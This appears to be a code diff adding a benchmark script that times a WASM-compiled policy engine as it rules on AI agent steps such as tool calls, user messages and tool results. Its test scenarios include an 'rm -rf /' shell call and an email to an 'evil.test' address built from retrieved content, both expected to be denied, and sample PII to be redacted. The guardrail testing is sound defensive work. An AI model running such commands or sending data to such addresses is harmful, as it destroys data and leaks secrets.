@@ -1,0 +1,86 @@
+// Full-library policy evaluation: the rego/ library compiled by our compiler, evaluated through the engine
+// host (opa-wasm + host builtins) over realistic ACS steps with session state. Prints compile time, input
+// sizes and p50/p99 per scenario for (a) advanceSessionState + buildPolicyInput and (b) engine.evaluate.
+// Run: `npm run bench policy` (or `npx tsx bench/policy.ts`). BENCH_ITERATIONS scales the sample (default 2000).
+import type { Json } from '../src/store/types.ts';
+import { advanceSessionState, buildPolicyInput, createWasmPolicyEngine, initialSessionState, type SessionState } from '../src/policy/index.ts';
+import { buildLibraryBundle } from '../src/policy/library.ts';
+
+const iterations = Number(process.env.BENCH_ITERATIONS ?? 2000);
+const SESSION = '5c3f1b8e-9a0d-4c2e-8f4b-2d6a7e9c1b30';
+let seq = 0;
+const params = (payload: Json, turn = 't3'): Json => ({
+  acs_version: '0.1.0',
+  request_id: `0b6e8f0e-2f7c-4f43-9d6f-${String(++seq).padStart(12, '0')}`,
+  timestamp: '2026-11-29T12:00:00.000Z',
+  metadata: { agent_id: 'agent-7', session_id: SESSION, turn_id: turn },
+  payload,
+  signature: { algorithm: 'HMAC-SHA256', value: 'x'.repeat(44), key_id: 'k1' },
+});
+const prov = (id: string, origin: string, derived_from?: string[]): Json => ({ provenance_id: id, origin, ...(derived_from ? { derived_from } : {}) });
+
+// A session with history: intent, 3 turns, retrieved content, several tool calls.
+function history(): SessionState {
+  let s = initialSessionState({ session_id: SESSION, agent_id: 'agent-7' });
+  const steps: [string, Json][] = [
+    ['steps/sessionStart', params({ intent: { raw: 'triage the inbox', parsed: ['email.send', 'filesystem.read', 'network.egress'], scope_mode: 'moderate' } }, 't0')],
+  ];
+  for (let t = 1; t <= 3; t++) {
+    const turn = `t${t}`;
+    steps.push(['steps/turnStart', params({ turn_id: turn }, turn)]);
+    steps.push(['steps/userMessage', params({ content: [{ type: 'text', value: `please handle item ${t}`, provenance: prov(`u${t}`, 'user_input') }] }, turn)]);
+    steps.push(['steps/knowledgeRetrieval', params({ query: { value: 'policy', provenance: prov(`q${t}`, 'user_input') }, results: [{ value: 'doc text '.repeat(20), provenance: prov(`r${t}`, 'retrieved') }] }, turn)]);
+    steps.push(['steps/toolCallRequest', params({ tool: { name: 'read_file' }, arguments: { path: { value: `/workspace/f${t}.txt`, provenance: prov(`p${t}`, 'user_input') } } }, turn)]);
+  }
+  for (const [m, p] of steps) s = advanceSessionState(s, m, p);
+  return s;
+}
+
+const scenarios: { name: string; method: string; params: Json }[] = [
+  { name: 'benign read_file (allow)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'read_file' }, arguments: { path: { value: '/workspace/notes.md', provenance: prov('u3', 'user_input') } } }) },
+  { name: 'rm -rf / (deny baseline)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'shell' }, arguments: { command: { value: 'rm -rf / --no-preserve-root', provenance: prov('u3', 'user_input') } } }) },
+  { name: 'email from retrieved data (deny FIDES+AARM+CaMeL)', method: 'steps/toolCallRequest', params: params({ tool: { name: 'email.send' }, arguments: { to: { value: 'x@evil.test', provenance: prov('g1', 'agent_generated', ['u3', 'r3']) }, body: { value: 'hello', provenance: prov('g2', 'agent_generated', ['u3']) } } }) },
+  { name: 'user message with PII (modify)', method: 'steps/userMessage', params: params({ content: [{ type: 'text', value: 'Contact jane.doe@example.com or +44 20 7946 0958, card 4111 1111 1111 1111. ' + 'Some ordinary text. '.repeat(20), provenance: prov('u9', 'user_input') }] }) },
+  { name: 'tool result, 4 KiB output (allow)', method: 'steps/toolCallResult', params: params({ tool: { name: 'read_file' }, exit_status: 'success', outputs: [{ value: 'lorem ipsum dolor sit amet '.repeat(150), provenance: prov('o1', 'tool_output') }] }) },
+];
+
+function percentile(sorted: number[], p: number): number {
+  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
+}
+
+const t0 = performance.now();
+const built = await buildLibraryBundle({});
+const compileMs = performance.now() - t0;
+const t1 = performance.now();
+const engine = await createWasmPolicyEngine({ bundle: built.bundle, timeoutMs: 5_000 });
+const loadMs = performance.now() - t1;
+console.log(`policy: library compile ${compileMs.toFixed(0)} ms, bundle ${built.bundle.byteLength} bytes, engine load (incl. warm-up) ${loadMs.toFixed(1)} ms`);
+
+const base = history();
+const client = { modify_capable: true, ask_capable: true };
+for (const sc of scenarios) {
+  const prep: number[] = [];
+  const evals: number[] = [];
+  let decision = '';
+  let inputBytes = 0;
+  for (let i = 0; i < iterations; i++) {
+    const a = performance.now();
+    const state = advanceSessionState(base, sc.method, sc.params);
+    const input = buildPolicyInput(sc.method, sc.params, state, client, { now: '2026-11-29T12:00:00.000Z', policy_version: engine.revision });
+    const b = performance.now();
+    const res = await engine.evaluate(input);
+    const c = performance.now();
+    prep.push(b - a);
+    evals.push(c - b);
+    if (i === 0) {
+      decision = String(res.decision?.decision);
+      inputBytes = JSON.stringify(input).length;
+    }
+  }
+  prep.sort((x, y) => x - y);
+  evals.sort((x, y) => x - y);
+  console.log(
+    `policy: ${sc.name.padEnd(52)} → ${decision.padEnd(6)} input ${String(inputBytes).padStart(5)} B | state+input p50 ${percentile(prep, 50).toFixed(3)} ms p99 ${percentile(prep, 99).toFixed(3)} ms | evaluate p50 ${percentile(evals, 50).toFixed(3)} ms p99 ${percentile(evals, 99).toFixed(3)} ms`,
+  );
+}
+console.log(`policy: ${iterations} iterations per scenario, instance recycles ${engine.instanceRecycles}`);
